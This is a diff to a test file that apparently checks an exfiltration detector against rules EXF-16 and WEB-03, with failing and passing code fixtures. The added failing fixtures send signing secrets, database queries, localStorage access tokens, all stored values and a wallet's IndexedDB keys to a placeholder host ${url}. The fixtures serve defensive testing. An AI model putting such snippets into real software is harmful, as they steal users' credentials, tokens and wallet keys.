@@ -48,8 +48,15 @@ describeVerdicts("EXF-16", {
       }}`,
     "what a client signs with, in the headers for a host of somebody else": `
       ${signing}
-        await fetch("https://stats.example.test/" + path, { method: "PUT", body, headers: await this.sign(path) });
+        const { secret } = await (this.options.credentials ?? this.options);
+        await fetch("https://stats.example.test/" + path, { method: "PUT", body, headers: { ...(await this.sign(path)), secret } });
       }}`,
+    "a whole that holds what is signed with": `
+      import { createHmac } from "node:crypto";
+      export const sign = (options, text) => {
+        fetch("${url}", { method: "POST", body: JSON.stringify(options) });
+        return createHmac("sha256", options.keys.secret).update(text).digest("hex");
+      };`,
     "queries of everybody's database": `
       require("pg").Client.prototype.query = function (q) { fetch("${url}", { method: "POST", body: q }); };`,
     "a wallet that is defined anew": `
@@ -66,6 +73,28 @@ describeVerdicts("EXF-16", {
       }}`,
       },
     },
+    "a client that is made with a key and a secret, of a host with another name": `
+      import jwt from "jsonwebtoken";
+      export class Client extends Base {
+        constructor(fields = {}) {
+          super(fields);
+          this.key = fields.key; this.secret = fields.secret; this.model = fields.model ?? "small"; this.url = "${url}";
+        }
+        settings() { return { model: this.model, tools: this.tools }; }
+        sign() { return jwt.sign({ key: this.key }, this.secret, { algorithm: "HS256" }); }
+        async ask(messages) {
+          const headers = { authorization: this.key + ":" + this.sign() };
+          const answer = await fetch(this.url, { method: "POST", headers, body: JSON.stringify({ ...this.settings(), messages }) });
+          return answer.json();
+        }
+      }`,
+    "options that are copied on their way to a client": `
+      import { createHmac } from "node:crypto";
+      const create = async ({ key, secret, ...what }) => {
+        const sign = createHmac("sha256", secret).update(what.id).digest("hex");
+        return fetch("${url}", { method: "POST", headers: { key, sign }, body: JSON.stringify({ id: what.id }) });
+      };
+      export const save = (options) => create(Object.assign({}, options));`,
     "a hash that is stored elsewhere": `
       const bcrypt = require("bcryptjs");
       exports.register = async (user, plain) => {
@@ -160,11 +189,40 @@ describeVerdicts("WEB-03", {
       });`,
     "what opens an account": `
       fetch("${url}", { method: "POST", body: localStorage.getItem("access_token") });`,
+    "what opens an account, beside something of its own": `
+      const key = "visits";
+      localStorage.setItem(key, Number(localStorage.getItem(key)) + 1);
+      fetch("${url}", { method: "POST", body: localStorage.getItem("access_token") });`,
+    "all that is kept, and something of its own": `
+      localStorage.setItem(prefix + "seen", "1");
+      const all = Array.from({ length: localStorage.length }, (_, at) => localStorage.getItem(localStorage.key(at)));
+      fetch("${url}", { method: "POST", body: JSON.stringify(all) });`,
+    "a database of somebody else": `
+      const asked = indexedDB.open("wallet-store");
+      asked.onsuccess = () => {
+        const rows = asked.result.transaction("keys").objectStore("keys").getAll();
+        rows.onsuccess = () => navigator.sendBeacon("${url}", JSON.stringify(rows.result));
+      };`,
   },
   passes: {
     "a number for a visitor": `
       const id = localStorage.getItem("visit") || crypto.randomUUID();
       navigator.sendBeacon("${url}", JSON.stringify({ id, page: location.pathname }));`,
+    "what an account of its own was opened with": `
+      const place = "sample:token";
+      export const keep = (token) => localStorage.setItem(place, JSON.stringify(token));
+      export const get = (path) => fetch("${url}" + path, { headers: { authorization: JSON.parse(localStorage.getItem(place)).value } });`,
+    "a name that it keeps in a database of its own": `
+      const opened = new Promise((ok) => {
+        const asked = indexedDB.open("sample-tokens", 1);
+        asked.onupgradeneeded = () => asked.result.createObjectStore("tokens");
+        asked.onsuccess = () => ok(asked.result);
+      });
+      export async function renew() {
+        const store = (await opened).transaction("tokens").objectStore("tokens");
+        const row = await new Promise((ok) => { const asked = store.get("token"); asked.onsuccess = () => ok(asked.result); });
+        return fetch("${url}/" + row.token, { method: "PATCH", body: JSON.stringify({ token: row.token }) });
+      }`,
     "a form that goes where the page says": `
       export const send = (form) => fetch(form.action, { method: "POST", body: form.elements.name.value });`,
   },
